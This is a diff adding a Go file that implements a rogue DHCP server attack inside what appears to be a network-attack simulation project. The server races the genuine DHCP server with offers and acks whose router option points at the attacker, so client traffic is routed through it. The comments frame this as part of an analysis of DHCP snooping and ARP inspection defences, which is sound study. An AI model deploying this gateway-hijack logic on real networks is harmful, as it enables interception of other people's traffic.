@@ -1,0 +1,123 @@
+package attack
+
+import (
+	"repro/internal/dhcp"
+	"repro/internal/ethaddr"
+	"repro/internal/frame"
+	"repro/internal/ipv4pkt"
+)
+
+// RogueStats counts rogue-DHCP activity.
+type RogueStats struct {
+	OffersSent uint64
+	AcksSent   uint64
+}
+
+// RogueDHCP is gateway hijacking one layer above ARP: the attacker races
+// the legitimate DHCP server with its own offers, handing out valid
+// addresses whose *router option* points at the attacker. Clients then
+// send every off-LAN packet to the attacker voluntarily — no ARP forgery,
+// no cache touched — which is why the analysis insists the DHCP plane
+// (snooping with trusted server ports) must be secured before DAI's
+// binding table can be trusted at all.
+type RogueDHCP struct {
+	attacker *Attacker
+	pool     []ethaddr.IPv4
+	next     int
+	stats    RogueStats
+}
+
+// StartRogueDHCP arms the rogue server on the attacker. Offers come from
+// poolStart with poolSize sequential addresses; the router option is the
+// attacker itself.
+func (a *Attacker) StartRogueDHCP(subnet ethaddr.Subnet, poolStart, poolSize int) *RogueDHCP {
+	r := &RogueDHCP{attacker: a}
+	for i := 0; i < poolSize; i++ {
+		r.pool = append(r.pool, subnet.Host(poolStart+i))
+	}
+	a.onFrame = append(a.onFrame, r.handleFrame)
+	return r
+}
+
+// Stats returns a copy of the rogue counters.
+func (r *RogueDHCP) Stats() RogueStats { return r.stats }
+
+// handleFrame watches for client DHCP traffic and races the real server.
+func (r *RogueDHCP) handleFrame(f *frame.Frame) {
+	if f.Type != frame.TypeIPv4 {
+		return
+	}
+	pkt, err := ipv4pkt.Decode(f.Payload)
+	if err != nil || pkt.Proto != ipv4pkt.ProtoUDP {
+		return
+	}
+	udp, err := ipv4pkt.DecodeUDP(pkt.Payload)
+	if err != nil || udp.DstPort != dhcp.ServerPort {
+		return
+	}
+	m, err := dhcp.Decode(udp.Payload)
+	if err != nil {
+		return
+	}
+	switch m.Type {
+	case dhcp.Discover:
+		r.offer(m)
+	case dhcp.Request:
+		r.ack(m)
+	}
+}
+
+// offer answers a DISCOVER with a poisoned-router offer.
+func (r *RogueDHCP) offer(m *dhcp.Message) {
+	if r.next >= len(r.pool) {
+		return
+	}
+	resp := &dhcp.Message{
+		Type:       dhcp.Offer,
+		XID:        m.XID,
+		ClientMAC:  m.ClientMAC,
+		YourIP:     r.pool[r.next],
+		ServerID:   r.attacker.IP(),
+		Router:     r.attacker.IP(), // the hijack
+		SubnetMask: ethaddr.IPv4{255, 255, 255, 0},
+		LeaseSecs:  600,
+	}
+	r.stats.OffersSent++
+	r.send(m.ClientMAC, resp)
+}
+
+// ack confirms a REQUEST naming us as the server.
+func (r *RogueDHCP) ack(m *dhcp.Message) {
+	if m.ServerID != r.attacker.IP() {
+		return // the client chose the genuine server
+	}
+	if r.next < len(r.pool) && r.pool[r.next] == m.RequestedIP {
+		r.next++
+	}
+	resp := &dhcp.Message{
+		Type:       dhcp.Ack,
+		XID:        m.XID,
+		ClientMAC:  m.ClientMAC,
+		YourIP:     m.RequestedIP,
+		ServerID:   r.attacker.IP(),
+		Router:     r.attacker.IP(),
+		SubnetMask: ethaddr.IPv4{255, 255, 255, 0},
+		LeaseSecs:  600,
+	}
+	r.stats.AcksSent++
+	r.send(m.ClientMAC, resp)
+}
+
+// send emits a server-to-client DHCP message as a raw frame.
+func (r *RogueDHCP) send(clientMAC ethaddr.MAC, m *dhcp.Message) {
+	udp := &ipv4pkt.UDP{SrcPort: dhcp.ServerPort, DstPort: dhcp.ClientPort, Payload: m.Encode()}
+	pkt := &ipv4pkt.Packet{
+		TTL: 64, Proto: ipv4pkt.ProtoUDP,
+		Src: r.attacker.IP(), Dst: ethaddr.BroadcastIPv4,
+		Payload: udp.Encode(),
+	}
+	r.attacker.send(&frame.Frame{
+		Dst: clientMAC, Src: r.attacker.MAC(),
+		Type: frame.TypeIPv4, Payload: pkt.Encode(),
+	})
+}
